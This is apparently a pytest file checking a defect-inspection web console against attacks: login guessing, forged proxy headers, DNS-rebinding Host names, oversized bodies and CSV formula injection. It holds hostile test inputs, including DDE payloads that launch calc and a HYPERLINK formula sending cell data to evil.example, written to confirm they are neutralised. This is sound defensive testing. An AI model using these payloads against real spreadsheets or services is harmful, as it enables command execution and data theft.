"""Console attacks from browsers and the network: login guessing, proxies and DNS rebinding, sessions,
CSV formulas, hostile query values and bodies, key permissions. Real console processes, real HTTP."""

from __future__ import annotations

import concurrent.futures
import csv
import io
import os
import socket
import time
import urllib.parse

import pytest

from deploy.console.loadgen import FakeStation
from tests.deploy.console.conftest import USERS, Client, wait_for
from tests.deploy.console.test_hostile_stations import metric


def _post_login(base: str, user: str, password: str, headers: dict | None = None):
    c = Client(base)
    form = urllib.parse.urlencode({"user": user, "password": password}).encode()
    return c.request(
        "POST", "/login", form, {"content-type": "application/x-www-form-urlencoded", "origin": base, **(headers or {})}
    )


def _status_kb(pid: int, key: str) -> int:
    with open(f"/proc/{pid}/status") as fh:
        return next(int(line.split()[1]) for line in fh if line.startswith(key + ":"))


# -- item 7: login throttling -------------------------------------------------------------------
def test_parallel_wrong_passwords_are_throttled_then_the_lock_expires(console_factory):
    con = console_factory(
        [], login_max_failures=3, login_lockout_s=2.0, login_lockout_max_s=8.0, login_max_concurrent=2
    )
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        answers = list(pool.map(lambda i: _post_login(con.base, "olga", f"guess-{i}"), range(12)))
    statuses = [a[0] for a in answers]
    assert statuses.count(429) >= 12 - (3 + 2), statuses  # at most failures + in-flight hashes got through
    assert all(s in (303, 429) for s in statuses)
    # every refusal names its wait, and none past login_lockout_max_s (growth: the fake-clock test below)
    assert max(int(h["retry-after"]) for s, _, h in answers if s == 429) <= 8
    status, _, headers = _post_login(con.base, "olga", USERS["olga"][1])  # locked: even the right password
    assert status == 429 and int(headers["retry-after"]) >= 1
    assert metric(con, "defectscope_console_login_refused_total", reason="locked_user") >= 1
    wait_for(lambda: Client(con.base).login("olga") == 200, 15, "the lock to expire")


def test_lockout_doubles_per_failure_up_to_its_cap():
    from deploy.console.throttle import LoginThrottle

    now = [100.0]
    t = LoginThrottle(max_failures=3, lockout_s=2.0, lockout_max_s=8.0, clock=lambda: now[0])
    waits = []
    for _ in range(6):
        t.failed("olga", "10.0.0.1")
        got = t.retry_after("olga", "10.0.0.1")
        waits.append(got[1] if got else 0)
    assert waits == [0, 0, 2, 4, 8, 8]  # locked at the third failure, doubling, capped at 8 s
    now[0] += 8.0
    assert t.retry_after("olga", "10.0.0.1") is None  # the lock expires
    assert t.retry_after("other", "10.0.0.2") is None  # another user and address are not locked


def test_concurrent_password_hashes_are_bounded(console_factory):
    con = console_factory([], login_max_failures=1000, login_max_concurrent=2)
    pid = con.proc.pid
    rss_before = _status_kb(pid, "VmRSS")
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        statuses = [a[0] for a in pool.map(lambda i: _post_login(con.base, f"user{i}", "wrong-pw"), range(12))]
    assert statuses == [303] * 12
    assert metric(con, "defectscope_console_login_hashes_peak") in (1, 2)
    assert metric(con, "defectscope_console_login_refused_total", reason="wrong_password") == 12
    # argon2id takes 64 MiB per verification: two at once, not twelve (or the thread pool's six)
    grown_mib = (_status_kb(pid, "VmHWM") - rss_before) / 1024
    print(f"console peak RSS growth under 12 parallel logins: {grown_mib:.0f} MiB")
    assert grown_mib < 2 * 64 + 48, grown_mib


def test_console_unit_has_a_memory_limit():
    from tests.deploy.console.conftest import ROOT

    text = (ROOT / "deploy/systemd/defectscope-console.service").read_text()
    assert "\nMemoryMax=" in text and "\nMemoryHigh=" in text


# -- item 8: reverse proxy and Host names -------------------------------------------------------
def _nginx() -> str:
    from tests.conftest import require_tool

    return "/usr/sbin/nginx" if os.access("/usr/sbin/nginx", os.X_OK) else require_tool("nginx")


NGINX_CONF = """
worker_processes 1;
{user}
error_log {root}/error.log warn;
pid {root}/nginx.pid;
events {{ worker_connections 64; }}
http {{
  access_log off;
  client_body_temp_path {root}/body; proxy_temp_path {root}/proxy; fastcgi_temp_path {root}/fcgi;
  uwsgi_temp_path {root}/uwsgi; scgi_temp_path {root}/scgi;
  map $http_upgrade $connection_upgrade {{ default upgrade; '' close; }}
  server {{
    listen 127.0.0.1:{port} ssl;
    server_name console.test;
    ssl_certificate {root}/cert.pem;
    ssl_certificate_key {root}/key.pem;
{site}
  }}
}}
"""


def _site_block() -> str:
    """The `location` block of docs/console-proxy.md's nginx example, verbatim."""
    from tests.deploy.console.conftest import ROOT

    text = (ROOT / "docs/console-proxy.md").read_text()
    start = text.index("    location / {")
    return text[start : text.index("    }\n", start) + 6].replace("127.0.0.1:8470", "127.0.0.1:{console_port}")


@pytest.fixture
def nginx(tmp_path):
    """A real nginx terminating TLS for console.test on a free port: yields (start(console_port), port)."""
    import subprocess

    from tests.conftest import require_tool
    from tests.factories import free_port

    exe = _nginx()
    root = tmp_path / "nginx"
    root.mkdir()
    subprocess.run(
        [
            require_tool("openssl"),
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=console.test",
            "-keyout",
            str(root / "key.pem"),
            "-out",
            str(root / "cert.pem"),
        ],
        check=True,
        capture_output=True,
    )
    port = free_port()
    procs = []

    def start(console_port: int) -> None:
        site = _site_block().replace("{console_port}", str(console_port))
        (root / "nginx.conf").write_text(
            NGINX_CONF.format(root=root, port=port, site=site, user="user root;" if os.geteuid() == 0 else "")
        )
        procs.append(
            subprocess.Popen(
                [exe, "-p", str(root), "-c", str(root / "nginx.conf"), "-g", "daemon off;"], stderr=subprocess.PIPE
            )
        )

        def listening() -> bool:
            try:
                socket.create_connection(("127.0.0.1", port), 0.5).close()
                return True
            except OSError:
                assert procs[0].poll() is None, procs[0].stderr.read().decode()
                return False

        wait_for(listening, 15, "nginx to listen")

    yield start, port
    for p in procs:
        p.terminate()
        p.wait(10)


def _https(port: int, method: str, path: str, host: str, body: bytes | None = None, headers: dict | None = None):
    import http.client
    import ssl

    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    conn = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=10)
    conn.request(method, path, body=body, headers={"Host": host, **(headers or {})})
    resp = conn.getresponse()
    return resp.status, resp.read(), resp.headers


def test_https_behind_a_real_nginx_logs_in_and_streams(console_factory, nginx):
    import ssl

    from websockets.sync.client import connect

    start, port = nginx
    con = console_factory([], forwarded_allow_ips=["127.0.0.1"], allowed_hosts=["console.test"], secure_cookies=True)
    start(int(con.base.rsplit(":", 1)[1]))
    site = f"https://console.test:{port}"
    form = urllib.parse.urlencode({"user": "olga", "password": USERS["olga"][1]}).encode()
    status, _, headers = _https(
        port,
        "POST",
        "/login",
        f"console.test:{port}",
        form,
        {"content-type": "application/x-www-form-urlencoded", "origin": site},
    )
    assert status == 303 and headers["location"] == "/", status  # was 403: Origin https:// vs http://
    cookie = headers["set-cookie"].split(";")[0]
    assert "Secure" in headers["set-cookie"]
    status, body, _ = _https(port, "GET", "/api/me", f"console.test:{port}", headers={"cookie": cookie})
    assert status == 200 and b'"olga"' in body
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    with connect(
        f"wss://console.test:{port}/ws",
        sock=socket.create_connection(("127.0.0.1", port)),
        ssl=ctx,
        origin=site,
        additional_headers={"Cookie": cookie},
        open_timeout=10,
    ) as ws:
        assert b'"full"' in ws.recv(timeout=10).encode()
    # a page on another name that resolves to the proxy (DNS rebinding) gets nothing
    assert _https(port, "GET", "/api/state", f"evil.example:{port}", headers={"cookie": cookie})[0] == 400


def test_forwarded_headers_from_an_untrusted_peer_are_ignored(console_factory):
    con = console_factory([], forwarded_allow_ips=["10.20.30.0/24"], allowed_hosts=["console.test"])
    forged = {"x-forwarded-proto": "https", "x-forwarded-host": "console.test", "origin": "https://console.test"}
    assert _post_login(con.base, "olga", USERS["olga"][1], forged)[0] == 403
    assert _post_login(con.base, "olga", USERS["olga"][1])[0] == 303  # its own http origin still works


def test_forwarded_host_and_proto_from_a_trusted_proxy_are_believed(console_factory):
    """A proxy that keeps its own Host upstream and sends X-Forwarded-Host (as some do)."""
    con = console_factory([], forwarded_allow_ips=["127.0.0.0/8"], allowed_hosts=["console.test"])
    fwd = {"x-forwarded-proto": "https", "x-forwarded-host": "console.test", "origin": "https://console.test"}
    assert _post_login(con.base, "olga", USERS["olga"][1], fwd)[0] == 303
    evil = {**fwd, "x-forwarded-host": "evil.example", "origin": "https://evil.example"}
    assert _post_login(con.base, "olga", USERS["olga"][1], evil)[0] == 400  # the forwarded name is checked too


def test_a_foreign_host_gets_nothing_even_in_kiosk_mode(console_factory):
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    st = FakeStation("st1")
    try:
        con = console_factory([{"name": "st1", "endpoint": st.endpoint}], kiosk=True)
        port = int(con.base.rsplit(":", 1)[1])
        c = Client(con.base)
        assert c.get("/api/state")[0] == 200
        evil = f"evil.example:{port}"
        assert c.request("GET", "/api/state", headers={"host": evil})[0] == 400
        with pytest.raises(InvalidStatus) as got:
            with connect(
                f"ws://{evil}/ws",
                sock=socket.create_connection(("127.0.0.1", port)),
                origin=f"http://{evil}",
                open_timeout=10,
            ) as ws:
                ws.recv(timeout=5)
        assert got.value.response.status_code == 400
    finally:
        st.close()


# -- item 9: sessions, CSV, query values, bodies, keys ------------------------------------------
def test_logout_closes_the_live_websocket(console_factory):
    from websockets.exceptions import ConnectionClosed
    from websockets.sync.client import connect

    st = FakeStation("st1")
    try:
        con = console_factory([{"name": "st1", "endpoint": st.endpoint}])
        c = Client(con.base)
        assert c.login("olga") == 200
        cookie = "; ".join(f"{k.name}={k.value}" for k in c.jar)
        with connect(
            con.base.replace("http", "ws") + "/ws",
            origin=con.base,
            additional_headers={"Cookie": cookie},
            open_timeout=10,
        ) as ws:
            ws.recv(timeout=10)
            assert (
                c.request(
                    "POST",
                    "/logout",
                    f"csrf={c.csrf}".encode(),
                    {"content-type": "application/x-www-form-urlencoded", "origin": con.base},
                )[0]
                == 303
            )
            with pytest.raises(ConnectionClosed) as closed:
                deadline = time.monotonic() + 10
                while time.monotonic() < deadline:  # keep the stream busy: a live socket would get these
                    st.status({"cam1": True})
                    st.verdict("cam1", 1)
                    ws.recv(timeout=0.5)
            assert closed.value.rcvd is not None and closed.value.rcvd.code == 4401
    finally:
        st.close()


def test_csv_export_neutralises_formulas(console_factory):
    st = FakeStation("st1")
    try:
        con = console_factory([{"name": "st1", "endpoint": st.endpoint}])
        wait_for(lambda: (st.status({"cam1": True}), con.health()["received"]["status"] > 0)[1], 10, "heartbeat")
        evil_model = {
            "name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "version": "=1+2",
            "precision": "+x",
            "artifact": "-y",
            "backend": "z",
        }
        msg = st.verdict("cam1", 1, "defect", model=evil_model)
        msg_src = {"source": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
        from deploy.console.loadgen import verdict_message

        st.send("st1.cam1.defect", verdict_message("st1", "cam1", 2, "defect") | msg_src)
        st.send("st1.cam1.ok", verdict_message("st1", "cam1", 3) | {"source": "\t=cmd|' /C calc'!A0"})
        wait_for(lambda: con.health()["recorded"] == 3, 10, "3 verdicts")
        eng = Client(con.base)
        assert eng.login("erik") == 200
        uid = eng.json("/api/events")[0]["uid"]
        assert eng.review(uid, "relabel", label="=2+5*cmd|' -C calc'!A0")[0] == 200
        status, body, _ = eng.get("/api/export.csv")
        assert status == 200 and msg["seq"] == 1
        cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], body.decode()[:2000]
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells and "'=1+2" in cells
    finally:
        st.close()


def test_non_finite_and_absurd_times_are_400(console_factory):
    con = console_factory([])
    eng = Client(con.base)
    assert eng.login("erik") == 200
    for q in ("to=inf", "from=nan", "from=-inf", "to=1e300", "from=Infinity"):
        for path in ("/api/export.csv", "/api/dataset"):
            assert eng.get(f"{path}?{q}")[0] == 400, (path, q)


def test_request_bodies_are_capped_without_being_read(console_factory):
    con = console_factory([])
    port = int(con.base.rsplit(":", 1)[1])
    rss_before = _status_kb(con.proc.pid, "VmRSS")
    s = socket.create_connection(("127.0.0.1", port), 10)
    s.sendall(
        b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/x-www-form-urlencoded\r\n"
        b"content-length: 314572800\r\n\r\n" + b"a" * 65536
    )
    s.settimeout(10)
    assert s.recv(200).startswith(b"HTTP/1.1 413")  # answered at once, not after 300 MiB
    s.close()
    s = socket.create_connection(("127.0.0.1", port), 10)  # chunked: cut off at the cap
    s.sendall(b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\ntransfer-encoding: chunked\r\n\r\n")
    s.settimeout(10)
    try:
        for _ in range(64):
            s.sendall(b"4000\r\n" + b"a" * 0x4000 + b"\r\n")
    except OSError:
        pass  # the console answered and closed
    assert s.recv(200).startswith(b"HTTP/1.1 413")
    s.close()
    assert (_status_kb(con.proc.pid, "VmRSS") - rss_before) < 32 * 1024
    assert metric(con, "defectscope_console_request_bodies_refused_total") == 2


def test_a_group_readable_curve_secret_key_is_refused(tmp_path, user_hashes):
    import subprocess
    import sys

    import zmq.auth

    from tests.deploy.console.conftest import ROOT, write_console_config

    srv_pub, _ = zmq.auth.create_certificates(tmp_path, "station")
    _, cli_sec = zmq.auth.create_certificates(tmp_path, "console")
    os.chmod(cli_sec, 0o640)
    cfg = write_console_config(
        tmp_path / "c.toml",
        [
            {
                "name": "st1",
                "endpoint": "tcp://127.0.0.1:1",
                "curve": {"server_public_key": str(srv_pub), "client_secret_key": str(cli_sec)},
            }
        ],
        f"sqlite:///{tmp_path / 'r.db'}",
        user_hashes,
        1,
    )
    code = "import sys; from defectscope.cli import main; sys.exit(main(sys.argv[1:]))"
    r = subprocess.run(
        [sys.executable, "-c", code, "console", "--config", str(cfg)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        timeout=60,
    )
    assert r.returncode == 2 and "stations[0].curve.client_secret_key" in r.stderr and "0640" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr
